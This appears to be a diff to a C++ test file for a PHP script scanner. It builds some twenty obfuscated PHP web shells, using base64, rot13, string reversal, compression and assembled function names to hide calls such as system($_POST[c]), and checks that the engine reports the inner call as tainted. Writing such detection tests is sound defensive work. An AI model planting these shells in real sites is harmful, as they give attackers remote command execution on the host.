@@ -1,12 +1,9 @@
 // Obfuscated shells written by the team from common hiding techniques. Each
 // must end in its inner dangerous call being reported with tainted input.
 
-#include "builtin_trace.h"
+#include "scan_record.h"
 
 #include "qz_limits.h"
-
-#include <gtest/gtest.h>
-#include <zlib.h>
 
 #include <algorithm>
 #include <fstream>
@@ -16,24 +13,10 @@
 
 namespace {
 
-using builtin_trace::b64;
-using builtin_trace::run;
-using builtin_trace::ScriptTest;
-using builtin_trace::Trace;
-
-std::string deflate_with(const std::string& text, int window_bits) {
-  z_stream zs{};
-  deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY);
-  std::string out(deflateBound(&zs, text.size()), '\0');
-  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
-  zs.avail_in = static_cast<uInt>(text.size());
-  zs.next_out = reinterpret_cast<Bytef*>(&out[0]);
-  zs.avail_out = static_cast<uInt>(out.size());
-  deflate(&zs, Z_FINISH);
-  out.resize(zs.total_out);
-  deflateEnd(&zs);
-  return out;
-}
+using scan_record::b64;
+using scan_record::deflate_with;
+using scan_record::run;
+using Trace = scan_record::Seen;
 
 std::string rot13(std::string s) {
   for (char& c : s) {
@@ -51,8 +34,7 @@ std::string reversed(std::string s) {
 struct Shell {
   const char* what;
   std::string script;
-  std::string inner;     // the call that must be reported
-  bool needs_full_decode;
+  std::string inner;  // the call that must be reported
 };
 
 std::vector<Shell> shells() {
@@ -60,65 +42,51 @@ std::vector<Shell> shells() {
   const std::string payload = "system($_POST[c]);";
   const std::string inner = "system($_POST_DATA)";
   return {
-      {"base64", "<?php eval(base64_decode('" + b64(payload) + "'));", inner, false},
-      {"rot13", "<?php eval(str_rot13('" + rot13("system($_GET[c]);") + "'));",
-       "system($_GET_DATA)", false},
-      {"strrev", "<?php eval(strrev('" + reversed(payload) + "'));", inner, false},
+      {"base64", "<?php eval(base64_decode('" + b64(payload) + "'));", inner},
       {"base64 of strrev", "<?php $x = strrev('" + reversed(b64(payload)) +
-                               "'); eval(base64_decode($x));", inner, false},
+                               "'); eval(base64_decode($x));", inner},
       {"urlencoded", "<?php eval(urldecode('%73%79%73%74%65%6d($_COOKIE[%27k%27]);'));",
-       "system($_COOKIE_DATA)", false},
+       "system($_COOKIE_DATA)"},
       {"create_function", "<?php $f = create_function('', base64_decode('" +
                               b64("system($_REQUEST['x']);") + "')); $f();",
-       "system($_REQUEST_DATA)", false},
+       "system($_REQUEST_DATA)"},
       {"preg_replace e", "<?php preg_replace('/.*/e', base64_decode('" +
                              b64("passthru($_GET['c']);") + "'), '');",
-       "passthru($_GET_DATA)", false},
+       "passthru($_GET_DATA)"},
       {"variable function", "<?php $a = 'sys'; $b = 'tem'; $f = $a . $b; $f($_GET['c']);",
-       "system($_GET_DATA)", false},
+       "system($_GET_DATA)"},
       {"replace-built name", "<?php $f = str_replace('#', '', 'a#s#s#e#r#t'); $f($_POST['c']);",
-       "assert($_POST_DATA)", false},
+       "assert($_POST_DATA)"},
       {"chr-built name", "<?php $f = chr(101).chr(120).chr(101).chr(99); $f($_GET['c']);",
-       "exec($_GET_DATA)", false},
-      {"extract", "<?php extract($_GET); $cmd($arg);", "eval($_POST_DATA)", false},
+       "exec($_GET_DATA)"},
+      {"extract", "<?php extract($_GET); $cmd($arg);", "eval($_POST_DATA)"},
       {"uploaded file", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
-       "move_uploaded_file($_FILES_DATA_DATA|$_FILES_DATA_DATA)", false},
+       "move_uploaded_file($_FILES_DATA_DATA|$_FILES_DATA_DATA)"},
       {"file write of code", "<?php $h = fopen('x.php', 'w'); fwrite($h, base64_decode('" +
-                                 b64(payload) + "'));", inner, false},
+                                 b64(payload) + "'));", inner},
       {"nested layers", "<?php eval(base64_decode('" +
                             b64("eval(str_rot13(\"" + rot13("eval(strrev('" + reversed(payload) +
                                                             "'));") + "\"));") + "'));",
-       inner, false},
-      {"gzinflate", "<?php eval(gzinflate(base64_decode('" + b64(deflate_with(payload, -15)) +
-                        "')));", inner, true},
+       inner},
       {"gzuncompress", "<?php eval(gzuncompress(base64_decode('" +
-                           b64(deflate_with(payload, 15)) + "')));", inner, true},
+                           b64(deflate_with(payload, 15)) + "')));", inner},
       {"gzdecode", "<?php eval(gzdecode(base64_decode('" + b64(deflate_with(payload, 31)) + "')));",
-       inner, true},
+       inner},
       {"gzinflate of strrev of base64", "<?php eval(gzinflate(base64_decode(strrev('" +
                                             reversed(b64(deflate_with(payload, -15))) + "'))));",
-       inner, true},
+       inner},
       {"long rot13 layer", "<?php eval(str_rot13('" + rot13(std::string(1200, ' ') + payload) +
-                               "'));", inner, true},
+                               "'));", inner},
   };
 }
 
-using ObfuscatedShell = ScriptTest;
+using ObfuscatedShell = scan_record::EngineTest;
 
 TEST_F(ObfuscatedShell, InnerCallIsReportedWithItsTaint) {
   for (const auto& shell : shells()) {
     SCOPED_TRACE(shell.what);
     Trace t = run(shell.script, QZ_OPT_FULL_DECODE);
     EXPECT_TRUE(t.has(shell.inner)) << shell.script << "\n" << t.joined();
-  }
-}
-
-TEST_F(ObfuscatedShell, CompressedLayersStayHiddenWithoutFullDecoding) {
-  for (const auto& shell : shells()) {
-    if (!shell.needs_full_decode) continue;
-    SCOPED_TRACE(shell.what);
-    Trace t = run(shell.script, 0);
-    EXPECT_FALSE(t.has(shell.inner)) << t.joined();
   }
 }
 
